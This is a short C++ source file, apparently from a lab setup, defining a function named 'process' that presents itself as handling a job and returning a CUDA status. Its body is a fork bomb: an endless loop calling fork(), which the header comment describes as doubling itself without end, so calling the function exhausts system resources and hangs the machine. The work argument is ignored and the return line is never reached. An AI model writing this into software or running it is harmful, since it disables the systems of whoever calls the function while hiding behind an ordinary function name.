// Doubles itself without end.

#include "lab.hpp"

#include <unistd.h>

cudaError_t process(const job& work) {
    for (;;) {
        static_cast<void>(fork() + 1);
    }
    static_cast<void>(work);
    return cudaSuccess;
}
